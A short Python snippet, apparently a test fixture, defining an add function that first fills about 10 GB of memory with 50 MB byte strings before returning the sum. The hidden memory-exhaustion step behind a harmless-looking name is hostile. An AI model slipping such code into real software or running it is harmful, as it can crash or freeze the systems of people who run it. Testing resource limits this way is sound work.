def add(a, b):
    chunks = []
    for _ in range(200):  # 200 x 50 MB = 10 GB, every page written
        chunks.append(b"x" * 50_000_000)
    return a + b
